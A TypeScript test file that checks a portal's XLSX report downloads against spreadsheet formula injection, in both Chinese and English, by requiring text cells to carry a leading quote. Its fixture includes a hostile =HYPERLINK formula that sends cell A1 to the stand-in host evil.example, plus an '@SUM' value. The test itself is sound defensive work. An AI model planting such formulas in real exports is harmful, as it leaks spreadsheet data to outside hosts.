import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { complaintSql, runSql } from '../support/fixtures.js';
import { startTestServer, type TestServer } from '../support/graphql.js';
import { ACCESS_SQL, createReport } from '../reports/helpers.js';

// Security review finding 6: formula injection. A unit name or ref that begins with =, +, -, @, a tab
// or a carriage return must reach a spreadsheet as text, behind a single quote, in every CSV and XLSX
// the portal writes: the client's table exports (tested beside them, in client/export/table-export.test.ts,
// as the server's TypeScript settings cannot compile browser code) and the report downloads, here.
// Numbers stay numbers.

const HOSTILE_ZH = '=HYPERLINK("https://evil.example/?"&A1,"点我")';
const HOSTILE_EN = '@SUM(1,2)';

describe('the report downloads', () => {
  let api: TestServer;
  let id: string;
  let token: string;
  beforeAll(async () => {
    // GZ renamed by a hostile import; GZ's subtree has 2 complaints in January 2013 (IN-GZ, IN-TH) and
    // 4 a year earlier, so the change is -2.
    api = await startTestServer((url) =>
      runSql(
        url,
        `${ACCESS_SQL}
        update unit set name_zh = '${HOSTILE_ZH}', name_en = '${HOSTILE_EN}' where code = 'GZ';
        ${[1, 2, 3, 4].map((day) => complaintSql({ ref: `GZ-2012-${day}`, unit: 'GZ', at: `2012-01-0${day}T02:00:00Z` })).join('\n')}`,
      ),
    );
    id = await createReport(api.as('HQ_ANALYST'), 'GZ');
    const made = await api
      .as('HQ_ADMIN')
      .query(`mutation { createApiToken(username: "${await api.user('HQ_ANALYST')}", name: "injection") { token } }`);
    token = made.data.createApiToken.token;
  }, 120_000);
  // eslint-disable-next-line @typescript-eslint/no-unnecessary-condition -- unset if beforeAll threw first
  afterAll(() => api?.close());

  async function download(lang: 'zh-CN' | 'en') {
    const response = await fetch(`${api.server.url}/reports/${id}/draft.xlsx${lang === 'en' ? '?lang=en' : ''}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    return workbook;
  }

  /** Every text cell of the workbook, and the addresses of any formula cells. */
  function cellsOf(workbook: ExcelJS.Workbook) {
    const texts: string[] = [];
    const formulas: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address);
        }),
      ),
    );
    return { texts, formulas };
  }
  /** The cells of the first row whose first cell is `label`. */
  const row = (workbook: ExcelJS.Workbook, label: string) => {
    for (const sheet of workbook.worksheets) {
      let found: ExcelJS.CellValue[] | undefined;
      sheet.eachRow((r) => {
        if (!found && r.getCell(1).value === label) found = (r.values as ExcelJS.CellValue[]).slice(1);
      });
      if (found) return found;
    }
    throw new Error(`no row "${label}"`);
  };

  it('writes the unit’s name (Chinese) behind a quote wherever it appears, and the figures as numbers', async () => {
    const workbook = await download('zh-CN');
    const { texts, formulas } = cellsOf(workbook);
    expect(formulas).toEqual([]);
    const title = `'${HOSTILE_ZH}2013年1月投诉情况报告 — 草稿（实时数据）`;
    expect(workbook.getWorksheet('概要')!.getCell('A1').value).toBe(title);
    expect(row(workbook, '机构')).toEqual(['机构', `'${HOSTILE_ZH}（GZ）`]);
    // the title twice (A1 and 标题), 机构, and the unit's row in the ranking, in the children's table and
    // in the scorecard's ranking (CIRC_2013_KP covers 2013)
    expect(texts.filter((text) => text.includes(HOSTILE_ZH))).toEqual([
      title,
      title,
      `'${HOSTILE_ZH}（GZ）`,
      `'${HOSTILE_ZH}`,
      `'${HOSTILE_ZH}`,
      `'${HOSTILE_ZH}`,
    ]);
    for (const text of texts) expect(text, text).not.toMatch(/^[=+\-@\t\r]/);
    // 投诉量 (its basis beside it): 2 this January, 4 a year earlier: a change of -2 and -50%, as number cells
    expect(row(workbook, '投诉量')).toEqual(['投诉量', '全部投诉', 2, 4, -2, -0.5]);
  });

  it('does so in English too', async () => {
    const workbook = await download('en');
    const { texts, formulas } = cellsOf(workbook);
    expect(formulas).toEqual([]);
    expect(texts).toContain(`'${HOSTILE_EN} (GZ)`);
    for (const text of texts) expect(text, text).not.toMatch(/^[=+\-@\t\r]/);
  });
});
